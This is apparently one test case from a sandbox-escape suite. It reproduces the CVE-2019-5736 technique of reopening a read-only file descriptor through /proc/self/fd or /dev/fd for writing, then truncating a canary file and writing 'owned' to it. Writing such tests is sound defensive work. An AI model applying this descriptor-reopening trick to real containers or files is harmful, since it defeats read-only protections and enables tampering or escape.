"""Open the file we were handed again, for writing.

origin: CVE-2019-5736 (runc): a descriptor under /proc is a path with all rights
why: read-only is a property of the descriptor, not of the file
control: succeeds
harm: stage
lines: canary
"""


def attack(target):
    number = lines_descriptor(target)
    for path in (f"/proc/self/fd/{number}", f"/dev/fd/{number}"):
        fd, error = openat(target, path, os.O_WRONLY | os.O_TRUNC)
        if fd >= 0:
            os.write(fd, b"owned")
            return escaped("the file was opened again and written")
    return blocked("openat", error)
